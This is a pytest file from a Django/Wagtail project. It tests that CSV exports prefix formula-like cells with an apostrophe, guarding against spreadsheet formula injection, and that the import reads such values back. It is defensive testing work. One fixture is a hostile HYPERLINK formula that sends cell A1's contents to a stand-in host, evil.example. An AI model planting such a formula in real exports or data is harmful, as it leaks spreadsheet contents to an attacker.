"""CSV exports never hand a spreadsheet a formula to run; the import reads them back."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.snippets.models import get_snippet_models

from tests.submissions.world import DAY, make_world, reported_item
from xinxuan.lib.spreadsheets import SpreadsheetSafeExportMixin, spreadsheet_text
from xinxuan.outcomes import actions
from xinxuan.outcomes.importing import plan_import
from xinxuan.scoring.ledger import compile_ruleset

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param("+SUM(A1)", "'+SUM(A1)", id="plus"),
        pytest.param("-2+3", "'-2+3", id="minus-formula"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("\r=1", "'\r=1", id="carriage-return"),
        pytest.param("-3", "-3", id="negative-number"),
        pytest.param("+1.5", "+1.5", id="signed-number"),
        pytest.param("口岸", "口岸", id="text"),
        pytest.param(7, 7, id="int"),
    ],
)
def test_a_cell_that_would_be_a_formula_is_written_as_text(value, cell):
    assert spreadsheet_text(value) == cell


def csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def world():
    return make_world()


def test_the_item_list_export_escapes_formulas(client, world):
    reported_item(world, title=HOSTILE)
    client.force_login(world.office)
    response = client.get(reverse("wagtailsnippets_submissions_item:list"), {"export": "csv"})
    titles = [row[0] for row in csv_rows(response)[1:]]
    assert titles == ["'" + HOSTILE]


def test_the_ledger_export_escapes_formulas_and_the_import_reads_it_back(client, world):
    item = reported_item(world, title=HOSTILE)
    actions.record_adoption(
        item=item, user=world.office, carrier=world.carriers["zongju-zhuanbao"], date=DAY
    )
    client.force_login(world.office)
    response = client.get(reverse("outcomes:ledger"), {"export": "csv"})
    rows = csv_rows(response)
    title = rows[0].index("标题")
    assert {row[title] for row in rows[1:]} == {"'" + HOSTILE}
    sheet = io.StringIO()
    csv.writer(sheet).writerows(rows)
    plan = plan_import(
        sheet.getvalue(), bureau=world.org.bureau, ruleset=compile_ruleset(world.ruleset)
    )
    assert not plan.problems
    assert [i.title for i in plan.items.values()] == [HOSTILE]


def test_every_snippet_list_with_an_export_escapes_formulas():
    for model in get_snippet_models():
        viewset = model.snippet_viewset
        if isinstance(viewset.list_export, list | tuple) and viewset.list_export:
            assert issubclass(viewset.index_view_class, SpreadsheetSafeExportMixin), model
